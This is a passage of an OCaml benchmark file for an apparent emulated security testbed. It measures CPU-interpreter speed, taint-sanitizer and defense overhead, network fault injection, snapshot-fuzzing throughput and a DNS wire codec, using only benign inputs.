    Array.fill cpu.Isa_arm.Cpu.regs 0 16 0;
    Isa_arm.Cpu.set cpu Isa_arm.Insn.SP (arm_stack_base + 0x3000);
    Isa_arm.Cpu.set_pc cpu arm_text_base;
    cpu.Isa_arm.Cpu.n <- false;
    cpu.Isa_arm.Cpu.z <- false;
    cpu.Isa_arm.Cpu.c <- false;
    cpu.Isa_arm.Cpu.v <- false;
    cpu.Isa_arm.Cpu.steps <- 0;
    match Isa_arm.Cpu.run ~fuel:10_000_000 ~traps:[] ~kernel cpu with
    | Machine.Outcome.Halted -> ()
    | other ->
        failwith
          (Format.asprintf "cpu bench: %a" Machine.Outcome.pp other)
  in
  (run, cpu)

(* --- x86 workload programs --- *)

let x86_straight iters =
  let open Isa_x86.Insn in
  let open Isa_x86.Asm in
  [ I (Mov_ri (ECX, iters)); Label "loop" ]
  @ [
      I (Add_i (Reg EAX, 3));
      I (Add (Reg EBX, Reg EAX));
      I (Xor (Reg EDX, Reg EAX));
      I (Sub_i (Reg ESI, 1));
      I (Lea (EDI, { base = Some EAX; disp = 8 }));
      I (Or (Reg EBX, Reg EDX));
      I (And (Reg EDX, Reg EAX));
      I (Inc_r ESI);
      I (Mov (Reg EDX, Reg EBX));
      I (Shl_i (EAX, 1));
      I (Sub (Reg EDI, Reg EDX));
      I (Add_i (Reg EBX, 7));
      I (Xor (Reg ESI, Reg EBX));
      I (Not (Reg EDX));
      I (Neg (Reg EDI));
      I (Imul (EAX, Reg EBX));
    ]
  @ [ I (Dec_r ECX); Jcc (NE, "loop"); I Hlt ]

let x86_branchy iters =
  let open Isa_x86.Insn in
  let open Isa_x86.Asm in
  [
    I (Mov_ri (ECX, iters));
    Label "loop";
    I (Cmp_i (Reg ECX, iters / 2));
    Jcc (B, "low");
    I (Inc_r EAX);
    I (Inc_r EBX);
    Jmp "join";
    Label "low";
    I (Dec_r EBX);
    I (Inc_r ESI);
    Label "join";
    I (Xor (Reg EDX, Reg ECX));
    I (Test_rr (EDX, EDX));
    Jcc (S, "skip");
    I (Inc_r EDI);
    Label "skip";
    I (Dec_r ECX);
    Jcc (NE, "loop");
    I Hlt;
  ]

let x86_syscall iters =
  let open Isa_x86.Insn in
  let open Isa_x86.Asm in
  [
    I (Mov_ri (ECX, iters));
    Label "loop";
    I (Mov_ri (EAX, 4));
    I (Int 0x80);
    I (Dec_r ECX);
    Jcc (NE, "loop");
    I Hlt;
  ]

(* Stores 0x90909090 over its own four NOPs each iteration: every store
   bumps the text page's generation, so the cached decodes of the whole
   loop go stale once per iteration. *)
let x86_selfmod iters =
  let open Isa_x86.Insn in
  let open Isa_x86.Asm in
  [
    I (Mov_ri (ECX, iters));
    Mov_ri_sym (EDX, "patch");
    Label "loop";
    I (Mov_mi (Mem { base = Some EDX; disp = 0 }, 0x9090_9090));
    Label "patch";
    I Nop;
    I Nop;
    I Nop;
    I Nop;
    I (Dec_r ECX);
    Jcc (NE, "loop");
    I Hlt;
  ]

(* --- ARM workload programs --- *)

let arm_straight iters =
  let open Isa_arm.Insn in
  let open Isa_arm.Asm in
  [ I (al (Mov (R2, Imm iters))); Label "loop" ]
  @ [
      I (al (Add (R0, R0, Imm 3)));
      I (al (Add (R1, R1, Reg R0)));
      I (al (Eor (R3, R3, Reg R0)));
      I (al (Sub (R4, R4, Imm 1)));
      I (al (Orr (R1, R1, Reg R3)));
      I (al (And (R3, R3, Reg R0)));
      I (al (Mov (R5, Lsl (R0, 1))));
      I (al (Mvn (R4, Reg R3)));
      I (al (Rsb (R5, R5, Reg R1)));
      I (al (Add (R1, R1, Imm 7)));
      I (al (Eor (R4, R4, Reg R1)));
      I (al (Bic (R3, R3, Imm 0xFF)));
      I (al (Mul (R5, R0, R1)));
      I (al (Sub (R0, R0, Reg R4)));
      I (al (Orr (R3, R3, Imm 1)));
      I (al (Add (R4, R4, Reg R5)));
    ]
  @ [
      I (al (Sub (R2, R2, Imm 1)));
      I (al (Cmp (R2, Imm 0)));
      B_sym (NE, "loop");
      I (al (Svc 1));
    ]

let arm_branchy iters =
  let open Isa_arm.Insn in
  let open Isa_arm.Asm in
  [
    I (al (Mov (R2, Imm iters)));
    I (al (Mov (R6, Imm (iters / 2))));
    Label "loop";
    I (al (Cmp (R2, Reg R6)));
    B_sym (LT, "low");
    I (al (Add (R0, R0, Imm 1)));
    I (al (Add (R1, R1, Imm 2)));
    B_sym (AL, "join");
    Label "low";
    I (al (Sub (R1, R1, Imm 1)));
    I (al (Add (R3, R3, Imm 1)));
    Label "join";
    I (al (Eor (R4, R4, Reg R2)));
    I (al (Tst (R4, Imm 1)));
    B_sym (NE, "skip");
    I (al (Add (R5, R5, Imm 1)));
    Label "skip";
    I (al (Sub (R2, R2, Imm 1)));
    I (al (Cmp (R2, Imm 0)));
    B_sym (NE, "loop");
    I (al (Svc 1));
  ]

let arm_syscall iters =
  let open Isa_arm.Insn in
  let open Isa_arm.Asm in
  [
    I (al (Mov (R2, Imm iters)));
    Label "loop";
    I (al (Mov (R7, Imm 4)));
    I (al (Svc 0));
    I (al (Sub (R2, R2, Imm 1)));
    I (al (Cmp (R2, Imm 0)));
    B_sym (NE, "loop");
    I (al (Svc 1));
  ]

let arm_selfmod iters =
  let open Isa_arm.Insn in
  let open Isa_arm.Asm in
  [
    I (al (Mov (R2, Imm iters)));
    Ldr_sym (R5, "lit_patch");
    Ldr_sym (R6, "lit_nop");
    Label "loop";
    I (al (Str (R6, R5, 0)));
    Label "patch";
    I (al (Mov (R0, Reg R0)));
    I (al (Add (R1, R1, Imm 1)));
    I (al (Sub (R2, R2, Imm 1)));
    I (al (Cmp (R2, Imm 0)));
    B_sym (NE, "loop");
    I (al (Svc 1));
    Label "lit_patch";
    Word_sym "patch";
    Label "lit_nop";
    Word 0xE1A0_0000 (* mov r0, r0 — the bytes already at "patch" *);
  ]

let cpu_workloads ~iters =
  let mk name runner perm program =
    let run_c, cpu_c = runner ~perm ~icache:true program in
    let run_u, _ = runner ~perm ~icache:false program in
    (* Warm run: sanity-checks both variants reach Halted and yields the
       per-invocation retired-instruction count. *)
    run_c ();
    run_u ();
    let steps =
      match cpu_c with
      | `X86 c -> c.Isa_x86.Cpu.steps
      | `Arm c -> c.Isa_arm.Cpu.steps
    in
    { cw_name = name; cw_steps = steps; cw_cached = run_c; cw_uncached = run_u }
  in
  let x86 ~perm ~icache p =
    let run, cpu = x86_runner ~perm ~icache p in
    (run, `X86 cpu)
  in
  let arm ~perm ~icache p =
    let run, cpu = arm_runner ~perm ~icache p in
    (run, `Arm cpu)
  in
  [
    mk "cpu/straight-x86" x86 Mem.rx (x86_straight iters);
    mk "cpu/branchy-x86" x86 Mem.rx (x86_branchy iters);
    mk "cpu/syscall-x86" x86 Mem.rx (x86_syscall iters);
    mk "cpu/selfmod-x86" x86 Mem.rwx (x86_selfmod iters);
    mk "cpu/straight-arm" arm Mem.rx (arm_straight iters);
    mk "cpu/branchy-arm" arm Mem.rx (arm_branchy iters);
    mk "cpu/syscall-arm" arm Mem.rx (arm_syscall iters);
    mk "cpu/selfmod-arm" arm Mem.rwx (arm_selfmod iters);
  ]

(* Time a bare closure through Bechamel (same OLS estimator as the rest). *)
let time_fn cfg name f =
  let test = Test.make ~name (Staged.stage f) in
  match Test.elements test with
  | [ elt ] -> measure_elt cfg elt
  | _ -> invalid_arg "time_fn: expected a single element"

let run_cpu_json ~smoke ~out () =
  let iters = if smoke then 64 else 512 in
  let cfg =
    if smoke then
      Benchmark.cfg ~limit:20 ~quota:(Time.second 0.02) ~stabilize:false ()
    else Benchmark.cfg ~limit:500 ~quota:(Time.second 0.5) ~stabilize:false ()
  in
  Format.printf "=== CPU interpreter benches%s ===@.@."
    (if smoke then " (smoke: few iterations)" else "");
  Format.printf "%-20s %8s %14s %14s %10s %9s@." "workload" "steps" "cached"
    "uncached" "Msteps/s" "speedup";
  Format.printf "%s@." (String.make 80 '-');
  let rows =
    List.map
      (fun w ->
        let c_ns, c_r2 = time_fn cfg (w.cw_name ^ "/cached") w.cw_cached in
        let u_ns, u_r2 = time_fn cfg (w.cw_name ^ "/uncached") w.cw_uncached in
        let steps = float_of_int w.cw_steps in
        let c_rate = steps *. 1e9 /. c_ns and u_rate = steps *. 1e9 /. u_ns in
        let speedup = u_ns /. c_ns in
        Format.printf "%-20s %8d %14s %14s %10.1f %8.2fx@." w.cw_name
          w.cw_steps (pretty_nanos c_ns) (pretty_nanos u_ns) (c_rate /. 1e6)
          speedup;
        (w, c_ns, c_r2, c_rate, u_ns, u_r2, u_rate, speedup))
      (cpu_workloads ~iters)
  in
  (* Flattened into the shared schema: each workload contributes a
     /cached and /uncached timing row plus a /speedup ratio row. *)
  write_bench_json ~suite:"cpu" ~smoke
    ~meta:[ ("iters", string_of_int iters) ]
    ~out
    (List.concat_map
       (fun (w, c_ns, c_r2, c_rate, u_ns, u_r2, u_rate, speedup) ->
         let steps = float_of_int w.cw_steps in
         [
           bench_row (w.cw_name ^ "/cached") "ns_per_run" c_ns
             ~extra:
               [
                 ("steps_per_run", steps); ("steps_per_sec", c_rate);
                 ("r_square", c_r2);
               ];
           bench_row (w.cw_name ^ "/uncached") "ns_per_run" u_ns
             ~extra:
               [
                 ("steps_per_run", steps); ("steps_per_sec", u_rate);
                 ("r_square", u_r2);
               ];
           bench_row (w.cw_name ^ "/speedup") "ratio" speedup;
         ])
       rows)

(* ------------------------------------------------------------------ *)
(* Sanitizer overhead benches: BENCH_sanitizer.json                    *)
(*                                                                     *)
(*   dune exec bench/main.exe -- sanitizer           (full run)        *)
(*   dune exec bench/main.exe -- sanitizer --smoke   (few iterations)  *)
(*   dune build @sanitizer-bench-smoke               (dune target)     *)
(*                                                                     *)
(* The taint sanitizer's overhead contract: each workload is timed     *)
(* through the plain [run] loop and through [run_sanitized] against a  *)
(* reused oracle ([begin_parse] per invocation, as the daemon does per *)
(* datagram).  Straight-line and branchy loops bound the per-retired-  *)
(* instruction cost on both ISAs; the parse-heavy rows measure the     *)
(* end-to-end benign-response parse through connmand with and without  *)
(* the oracle attached — the number a deployment would actually pay.   *)
(* ------------------------------------------------------------------ *)

let x86_sanitized_runner program =
  let mem = Mem.create () in
  let r = Isa_x86.Asm.assemble ~base:x86_text_base program in
  Mem.map mem ~base:x86_text_base ~size:Mem.page_size ~perm:Mem.rx ~name:".text";
  Mem.poke_bytes mem x86_text_base r.Isa_x86.Asm.code;
  Mem.map mem ~base:x86_stack_base ~size:0x4000 ~perm:Mem.rw ~name:"stack";
  let cpu = Isa_x86.Cpu.create ~icache:true mem in
  let oracle = Sanitizer.Oracle.create () in
  let kernel _ _ = Machine.Outcome.Resume in
  fun () ->
    Sanitizer.Oracle.begin_parse oracle;
    Array.fill cpu.Isa_x86.Cpu.regs 0 8 0;
    Isa_x86.Cpu.set cpu Isa_x86.Insn.ESP (x86_stack_base + 0x3000);
    cpu.Isa_x86.Cpu.eip <- x86_text_base;
    cpu.Isa_x86.Cpu.zf <- false;
    cpu.Isa_x86.Cpu.sf <- false;
    cpu.Isa_x86.Cpu.cf <- false;
    cpu.Isa_x86.Cpu.o_f <- false;
    cpu.Isa_x86.Cpu.steps <- 0;
    match Isa_x86.Cpu.run_sanitized ~fuel:10_000_000 ~traps:[] ~kernel ~oracle cpu with
    | Machine.Outcome.Halted -> ()
    | other ->
        failwith (Format.asprintf "sanitizer bench: %a" Machine.Outcome.pp other)

let arm_sanitized_runner program =
  let mem = Mem.create () in
  let r = Isa_arm.Asm.assemble ~base:arm_text_base program in
  Mem.map mem ~base:arm_text_base ~size:Mem.page_size ~perm:Mem.rx ~name:".text";
  Mem.poke_bytes mem arm_text_base r.Isa_arm.Asm.code;
  Mem.map mem ~base:arm_stack_base ~size:0x4000 ~perm:Mem.rw ~name:"stack";
  let cpu = Isa_arm.Cpu.create ~icache:true mem in
  let oracle = Sanitizer.Oracle.create () in
  let kernel n _ =
    if n = 0 then Machine.Outcome.Resume
    else Machine.Outcome.Stop Machine.Outcome.Halted
  in
  fun () ->
    Sanitizer.Oracle.begin_parse oracle;
    Array.fill cpu.Isa_arm.Cpu.regs 0 16 0;
    Isa_arm.Cpu.set cpu Isa_arm.Insn.SP (arm_stack_base + 0x3000);
    Isa_arm.Cpu.set_pc cpu arm_text_base;
    cpu.Isa_arm.Cpu.n <- false;
    cpu.Isa_arm.Cpu.z <- false;
    cpu.Isa_arm.Cpu.c <- false;
    cpu.Isa_arm.Cpu.v <- false;
    cpu.Isa_arm.Cpu.steps <- 0;
    match Isa_arm.Cpu.run_sanitized ~fuel:10_000_000 ~traps:[] ~kernel ~oracle cpu with
    | Machine.Outcome.Halted -> ()
    | other ->
        failwith (Format.asprintf "sanitizer bench: %a" Machine.Outcome.pp other)

(* One live daemon per variant; with the oracle attached every response
   byte is tainted and the parse runs under [run_sanitized] (benign
   bytes, so zero reports — pure overhead). *)
let sanitizer_parse_bench ~sanitize arch =
  let d = Dnsproxy.create (mk_config arch Profile.wx 9) in
  if sanitize then Dnsproxy.set_sanitizer d (Some (Sanitizer.Oracle.create ()));
  fun () -> ignore (Dnsproxy.handle_response d (benign_wire d))

let sanitizer_workloads ~iters =
  [
    ( "sanitizer/straight-x86",
      fst (x86_runner ~perm:Mem.rx ~icache:true (x86_straight iters)),
      x86_sanitized_runner (x86_straight iters) );
    ( "sanitizer/branchy-x86",
      fst (x86_runner ~perm:Mem.rx ~icache:true (x86_branchy iters)),
      x86_sanitized_runner (x86_branchy iters) );
    ( "sanitizer/straight-arm",
      fst (arm_runner ~perm:Mem.rx ~icache:true (arm_straight iters)),
      arm_sanitized_runner (arm_straight iters) );
    ( "sanitizer/branchy-arm",
      fst (arm_runner ~perm:Mem.rx ~icache:true (arm_branchy iters)),
      arm_sanitized_runner (arm_branchy iters) );
    ( "sanitizer/parse-x86",
      sanitizer_parse_bench ~sanitize:false Loader.Arch.X86,
      sanitizer_parse_bench ~sanitize:true Loader.Arch.X86 );
    ( "sanitizer/parse-arm",
      sanitizer_parse_bench ~sanitize:false Loader.Arch.Arm,
      sanitizer_parse_bench ~sanitize:true Loader.Arch.Arm );
  ]

let run_sanitizer_json ~smoke ~out () =
  let iters = if smoke then 64 else 512 in
  let cfg =
    if smoke then
      Benchmark.cfg ~limit:20 ~quota:(Time.second 0.02) ~stabilize:false ()
    else Benchmark.cfg ~limit:500 ~quota:(Time.second 0.5) ~stabilize:false ()
  in
  Format.printf "=== Sanitizer overhead benches%s ===@.@."
    (if smoke then " (smoke: few iterations)" else "");
  Format.printf "%-24s %14s %14s %9s@." "workload" "plain" "sanitized"
    "overhead";
  Format.printf "%s@." (String.make 66 '-');
  let rows =
    List.map
      (fun (name, plain, sanitized) ->
        let p_ns, p_r2 = time_fn cfg (name ^ "/plain") plain in
        let s_ns, s_r2 = time_fn cfg (name ^ "/sanitized") sanitized in
        let overhead = s_ns /. p_ns in
        Format.printf "%-24s %14s %14s %8.2fx@." name (pretty_nanos p_ns)
          (pretty_nanos s_ns) overhead;
        (name, p_ns, p_r2, s_ns, s_r2, overhead))
      (sanitizer_workloads ~iters)
  in
  write_bench_json ~suite:"sanitizer" ~smoke
    ~meta:[ ("iters", string_of_int iters) ]
    ~out
    (List.concat_map
       (fun (name, p_ns, p_r2, s_ns, s_r2, overhead) ->
         [
           bench_row (name ^ "/plain") "ns_per_run" p_ns
             ~extra:[ ("r_square", p_r2) ];
           bench_row (name ^ "/sanitized") "ns_per_run" s_ns
             ~extra:[ ("r_square", s_r2) ];
           bench_row (name ^ "/overhead") "ratio" overhead;
         ])
       rows)

(* ------------------------------------------------------------------ *)
(* Fault-injection path benches: BENCH_faults.json                     *)
(*                                                                     *)
(*   dune exec bench/main.exe -- faults            (full measurement)  *)
(*   dune exec bench/main.exe -- faults --smoke    (few iterations)    *)
(*   dune build @faults-bench-smoke                (dune smoke target) *)
(*                                                                     *)
(* What a datagram costs to deliver: a clean link (policy resolution + *)
(* the default latency draw — the hot path every simulated packet now  *)
(* crosses), the same link with every impairment enabled, a 32-host    *)
(* broadcast domain, and a 16-LAN uplink chain exercising the unicast  *)
(* route search.  Worlds are reused across invocations (the event heap *)
(* drains each run), so the estimate is the send+run steady state.     *)
(* ------------------------------------------------------------------ *)

module WF = Netsim.World
module Faults = Netsim.Faults

let fault_impaired_policy =
  {
    Faults.default with
    Faults.drop = 0.1;
    duplicate = 0.15;
    corrupt = 0.15;
    reorder = 0.3;
    reorder_window_us = 2_000;
    latency = Faults.Jitter { base = 500; jitter = 400 };
  }

let faults_two_host_bench ?policy () =
  let w = WF.create ~seed:7 () in
  let lan = WF.add_lan w ~name:"lan" in
  (match policy with Some p -> WF.set_lan_policy w lan p | None -> ());
  let a = WF.add_host w ~name:"a" in
  WF.set_host_ip a (Some (Netsim.Ip.of_string "10.0.0.1"));
  WF.attach a lan;
  let b = WF.add_host w ~name:"b" in
  let dst = Netsim.Ip.of_string "10.0.0.2" in
  WF.set_host_ip b (Some dst);
  WF.attach b lan;
  WF.on_udp b ~port:9 (fun _ _ -> ());
  fun () ->
    for _ = 1 to 64 do
      WF.send w ~from:a ~dst ~dport:9 "bench payload"
    done;
    ignore (WF.run w)

let faults_broadcast_bench ~hosts () =
  let w = WF.create ~seed:7 () in
  let lan = WF.add_lan w ~name:"lan" in
  let sender = WF.add_host w ~name:"sender" in
  WF.set_host_ip sender (Some (Netsim.Ip.of_string "10.0.0.1"));
  WF.attach sender lan;
  for i = 2 to hosts do
    let h = WF.add_host w ~name:(Printf.sprintf "h%d" i) in
    WF.set_host_ip h (Some (Netsim.Ip.of_string (Printf.sprintf "10.0.0.%d" i)));
    WF.attach h lan;
    WF.on_udp h ~port:9 (fun _ _ -> ())
  done;
  fun () ->
    for _ = 1 to 8 do
      WF.send w ~from:sender ~dst:Netsim.Ip.broadcast ~dport:9 "bench payload"
    done;
    ignore (WF.run w)

let faults_route_chain_bench ~lans () =
  let w = WF.create ~seed:7 () in
  let chain =
    Array.init lans (fun i -> WF.add_lan w ~name:(Printf.sprintf "lan%d" i))
  in
  for i = 0 to lans - 2 do
    WF.set_uplink chain.(i) (Some chain.(i + 1))
  done;
  let src = WF.add_host w ~name:"src" in
  WF.set_host_ip src (Some (Netsim.Ip.of_string "10.0.0.1"));
  WF.attach src chain.(0);
  let dst_host = WF.add_host w ~name:"dst" in
  let dst = Netsim.Ip.of_string "10.0.255.1" in
  WF.set_host_ip dst_host (Some dst);
  WF.attach dst_host chain.(lans - 1);
  WF.on_udp dst_host ~port:9 (fun _ _ -> ());
  fun () ->
    for _ = 1 to 64 do
      WF.send w ~from:src ~dst ~dport:9 "bench payload"
    done;
    ignore (WF.run w)

let run_faults_json ~smoke ~out () =
  let cfg =
    if smoke then
      Benchmark.cfg ~limit:50 ~quota:(Time.second 0.01) ~stabilize:false ()
    else Benchmark.cfg ~limit:2000 ~quota:(Time.second 0.25) ~stabilize:false ()
  in
  Format.printf "=== Fault-injection path benches%s ===@.@."
    (if smoke then " (smoke: few iterations)" else "");
  let workloads =
    [
      ("faults/unicast-clean-64", faults_two_host_bench ());
      ( "faults/unicast-impaired-64",
        faults_two_host_bench ~policy:fault_impaired_policy () );
      ("faults/broadcast-32-hosts", faults_broadcast_bench ~hosts:32 ());
      ("faults/route-chain-16-lans", faults_route_chain_bench ~lans:16 ());
    ]
  in
  let rows =
    List.map
      (fun (name, f) ->
        let nanos, r2 = time_fn cfg name f in
        Format.printf "%-32s %16s %12.4f@." name (pretty_nanos nanos) r2;
        (name, nanos, r2))
      workloads
  in
  write_bench_json ~suite:"faults" ~smoke ~out
    (List.map
       (fun (name, nanos, r2) ->
         let nanos = if Float.is_nan nanos then 0.0 else nanos in
         let ops = if nanos > 0.0 then 1e9 /. nanos else 0.0 in
         bench_row name "ns_per_op" nanos
           ~extra:[ ("ops_per_sec", ops); ("r_square", r2) ])
       rows)

(* Throughput context: instructions retired per benign parse — and the
   §IV concern made quantitative: what each defense costs the device on
   the hot path (guest instructions per benign response). *)
let parse_steps arch profile =
  let d = Dnsproxy.create (mk_config arch profile 9) in
  let query = Dnsproxy.make_query d lookup in
  let wire =
    Dns.Packet.encode
      (Dns.Packet.response ~query [ Dns.Packet.a_record lookup ~ttl:300 ~ipv4:1 ])
  in
  ignore (Dnsproxy.handle_response d wire);
  Dnsproxy.last_steps d

let print_parse_costs () =
  Format.printf "@.=== Machine-level parse cost (benign response) ===@.@.";
  Format.printf "%-8s %-22s %12s %10s@." "arch" "protections" "instructions"
    "overhead";
  Format.printf "%s@." (String.make 58 '-');
  List.iter
    (fun arch ->
      let base = parse_steps arch Profile.none in
      List.iter
        (fun (label, profile) ->
          let steps = parse_steps arch profile in
          Format.printf "%-8s %-22s %12d %9.1f%%@." (Loader.Arch.name arch)
            label steps
            (100.0 *. float_of_int (steps - base) /. float_of_int base))
        [
          ("none", Profile.none);
          ("wx", Profile.wx);
          ("wx+aslr", Profile.wx_aslr);
          ("wx+canary", Profile.with_canary Profile.wx);
          ("wx+aslr+cfi", Profile.with_cfi Profile.wx_aslr);
          ("wx+seccomp", Profile.with_seccomp Profile.wx);
        ])
    Loader.Arch.all;
  Format.printf
    "@.(CFI and seccomp are host-enforced: zero guest instructions, as a@.\
     hardware shadow stack or kernel filter would be; canaries add the@.\
     prologue/epilogue checks the compiler emits.)@." 

(* ------------------------------------------------------------------ *)
(* Snapshot-fuzzing benches: BENCH_fuzz.json                           *)
(*                                                                     *)
(* The costs that set the fuzzer's throughput: taking a CoW snapshot,  *)
(* restoring it (clean, and after a parse has dirtied pages), forking  *)
(* a fresh machine from it, and a complete fuzz execution              *)
(* (restore + datagram write + coverage-instrumented parse).          *)
(*                                                                     *)
(*   dune exec bench/main.exe -- fuzz             (full measurement)   *)
(*   dune exec bench/main.exe -- fuzz --smoke     (few iterations)     *)
(*   dune build @fuzz-bench-smoke                 (dune smoke target)  *)
(* ------------------------------------------------------------------ *)

let run_fuzz_json ~smoke ~out () =
  let cfg =
    if smoke then
      Benchmark.cfg ~limit:20 ~quota:(Time.second 0.02) ~stabilize:false ()
    else Benchmark.cfg ~limit:500 ~quota:(Time.second 0.5) ~stabilize:false ()
  in
  Format.printf "=== Snapshot-fuzzing benches%s ===@.@."
    (if smoke then " (smoke: few iterations)" else "");
  let bench_arch arch =
    let aname = Loader.Arch.name arch in
    let profile = Profile.wx in
    let spec =
      match arch with
      | Loader.Arch.X86 ->
          Connman.Program_x86.spec ~version:Connman.Version.v1_34 ~profile ()
      | Loader.Arch.Arm ->
          Connman.Program_arm.spec ~version:Connman.Version.v1_34 ~profile ()
    in
    let proc = Loader.Process.boot spec ~profile ~seed:1 in
    let snap = Loader.Process.snapshot proc in
    let entry = Loader.Process.symbol proc "parse_response" in
    let buf = proc.Loader.Process.layout.Loader.Layout.heap_base in
    let input = List.hd (Fuzz.Engine.benign_seeds ()) in
    let cov = Fuzz.Coverage.create () in
    let prof = Telemetry.Profile.create () in
    Telemetry.Profile.set_sink prof (Some (Fuzz.Coverage.touch cov));
    let parse () =
      Memsim.Memory.write_bytes proc.Loader.Process.mem buf input;
      Telemetry.Profile.clear prof;
      Fuzz.Coverage.begin_exec cov;
      let r =
        Loader.Process.call proc ~fuel:400_000 ~profile:prof ~entry
          ~args:[ buf; String.length input ]
      in
      ignore (Fuzz.Coverage.commit cov);
      r
    in
    (* Warm run: the parse must succeed for the numbers to mean anything. *)
    (match (parse ()).Loader.Process.outcome with
    | Machine.Outcome.Halted -> ()
    | o -> failwith ("fuzz bench: benign parse failed: " ^ Machine.Outcome.to_string o));
    let steps = float_of_int (parse ()).Loader.Process.steps in
    Loader.Process.restore proc snap;
    let snap_ns, snap_r2 =
      time_fn cfg ("fuzz/snapshot-" ^ aname) (fun () ->
          ignore (Loader.Process.snapshot proc))
    in
    (* Steady-state restore: nothing dirtied between iterations. *)
    let rclean_ns, rclean_r2 =
      time_fn cfg ("fuzz/restore-clean-" ^ aname) (fun () ->
          Loader.Process.restore proc snap)
    in
    (* Dirty restore: every iteration parses (dirtying stack/heap/bss
       pages) then rewinds, i.e. one full fuzz execution. *)
    let exec_ns, exec_r2 =
      time_fn cfg ("fuzz/exec-" ^ aname) (fun () ->
          Loader.Process.restore proc snap;
          ignore (parse ()))
    in
    let fork_ns, fork_r2 =
      time_fn cfg ("fuzz/fork-" ^ aname) (fun () ->
          ignore (Loader.Process.fork proc snap))
    in
    let execs_per_sec = if exec_ns > 0.0 then 1e9 /. exec_ns else 0.0 in
    Format.printf
      "%-22s snapshot %10s  restore %10s  exec %10s (%8.0f execs/s)  fork %10s@."
      aname (pretty_nanos snap_ns) (pretty_nanos rclean_ns)
      (pretty_nanos exec_ns) execs_per_sec (pretty_nanos fork_ns);
    [
      bench_row ("fuzz/snapshot-" ^ aname) "ns_per_op" snap_ns
        ~extra:[ ("r_square", snap_r2) ];
      bench_row ("fuzz/restore-clean-" ^ aname) "ns_per_op" rclean_ns
        ~extra:[ ("r_square", rclean_r2) ];
      bench_row ("fuzz/exec-" ^ aname) "ns_per_run" exec_ns
        ~extra:
          [
            ("execs_per_sec", execs_per_sec);
            ("steps_per_run", steps);
            ("r_square", exec_r2);
          ];
      bench_row ("fuzz/fork-" ^ aname) "ns_per_op" fork_ns
        ~extra:[ ("r_square", fork_r2) ];
    ]
  in
  let rows = List.concat_map bench_arch Loader.Arch.all in
  write_bench_json ~suite:"fuzz" ~smoke ~out rows

(* ------------------------------------------------------------------ *)
(* Wire codec: BENCH_wire.json                                         *)
(*                                                                     *)
(* Old (Dns.Legacy: String.sub walker, Buffer/Hashtbl encoder) vs the  *)
(* zero-copy codec (reused Dns.Wire view + arena) on the two host-side *)
(* hot paths: parsing a benign response down to its A records, and     *)
(* answering a query (parse + build + encode).                         *)
(*                                                                     *)
(*   dune exec bench/main.exe -- wire            (full measurement)    *)
(*   dune exec bench/main.exe -- wire --smoke    (few iterations)      *)
(*   dune build @wire-bench-smoke                (dune smoke target)   *)
(* ------------------------------------------------------------------ *)

(* Allocation per call, measured directly off the minor/major counters;
   deterministic for a fixed workload. *)
let alloc_per_op ?(n = 10_000) f =
  for _ = 1 to 256 do f () done;
  let before = Gc.allocated_bytes () in
  for _ = 1 to n do f () done;
  (Gc.allocated_bytes () -. before) /. float_of_int n

let run_wire_json ~smoke ~out () =
  let cfg =
    if smoke then
      Benchmark.cfg ~limit:20 ~quota:(Time.second 0.02) ~stabilize:false ()
    else Benchmark.cfg ~limit:500 ~quota:(Time.second 0.5) ~stabilize:false ()
  in
  Format.printf "=== Wire codec benches%s ===@.@."
    (if smoke then " (smoke: few iterations)" else "");
  let open Dns in
  let name = Name.of_string in
  let query = Packet.query ~id:0x1A2B (name "www.example.com") Packet.A in
  let response =
    Packet.response ~query
      [
        Packet.cname_record (name "www.example.com") ~ttl:600
          ~target:(name "web.example.com");
        Packet.a_record (name "web.example.com") ~ttl:300 ~ipv4:0x5DB8D822;
        Packet.a_record (name "web.example.com") ~ttl:300 ~ipv4:0x5DB8D823;
      ]
  in
  let response_wire = Packet.encode response in
  let query_wire = Packet.encode query in
  (* Parse path: validate a response and extract its A records, as the
     daemons' cache-update paths do. *)
  let legacy_parse () =
    match Legacy.decode response_wire with
    | Error _ -> 0
    | Ok p ->
        List.fold_left
          (fun acc (rr : Packet.rr) ->
            match (rr.Packet.rtype, Packet.ipv4_of_rdata rr.Packet.rdata) with
            | Packet.A, Some ip -> acc + ip
            | _ -> acc)
          0 p.Packet.answers
  in
  let view = Wire.create_view () in
  let zc_parse () =
    match Wire.parse view response_wire with
    | Error _ -> 0
    | Ok () ->
        let acc = ref 0 in
        for i = 0 to Wire.ancount view - 1 do
          if Wire.rr_rtype view i = 1 && Wire.rr_rdlen view i = 4 then
            acc := !acc + Wire.get_u32 response_wire (Wire.rr_rdata view i)
        done;
        !acc
  in
  assert (legacy_parse () = zc_parse ());
  (* Respond path: decode a query, build the answer, encode it — the
     resolver's per-datagram work. *)
  let answer = [ Packet.a_record (name "www.example.com") ~ttl:300 ~ipv4:42 ] in
  let legacy_respond () =
    match Legacy.decode query_wire with
    | Error _ -> 0
    | Ok q -> String.length (Legacy.encode (Packet.response ~query:q answer))
  in
  let arena = Wire.arena ~capacity:256 () in
  let qview = Wire.create_view () in
  (* The zero-copy responder never materializes a [Packet.t]: it echoes
     the question bytes straight from the query wire and appends the
     answer RR with a hand-written compression pointer to the question
     name — the same bytes [Packet.response]/[Legacy.encode] produce,
     asserted below. *)
  let zc_respond () =
    match Wire.parse qview query_wire with
    | Error _ -> 0
    | Ok () -> (
        let qname_off = Wire.question_name qview 0 in
        match Wire.skip_name query_wire qname_off with
        | Error _ -> 0
        | Ok used ->
            Wire.reset arena;
            Wire.add_u16 arena (Wire.id qview);
            (* qr=1, ra=1; aa and rcode cleared — as Packet.response. *)
            Wire.add_u16 arena ((Wire.flags qview lor 0x8080) land 0xFBF0);
            Wire.add_u16 arena 1 (* qdcount *);
            Wire.add_u16 arena 1 (* ancount *);
            Wire.add_u16 arena 0;
            Wire.add_u16 arena 0;
            Wire.add_substring arena query_wire qname_off (used + 4);
            Wire.add_u16 arena 0xC00C (* name: pointer to the question *);
            Wire.add_u16 arena 1 (* type A *);
            Wire.add_u16 arena 1 (* class IN *);
            Wire.add_u32 arena 300;
            Wire.add_u16 arena 4;
            Wire.add_u32 arena 42;
            Wire.length arena)
  in
  (* Byte-for-byte parity with the legacy respond path, not just length. *)
  (match Legacy.decode query_wire with
  | Error _ -> assert false
  | Ok q ->
      let legacy_bytes = Legacy.encode (Packet.response ~query:q answer) in
      ignore (zc_respond ());
      assert (String.equal legacy_bytes (Wire.contents arena)));
  assert (legacy_respond () = zc_respond ());
  let bench tag legacy zc =
    let l_ns, l_r2 = time_fn cfg ("wire/" ^ tag ^ "-legacy") (fun () -> ignore (legacy ())) in
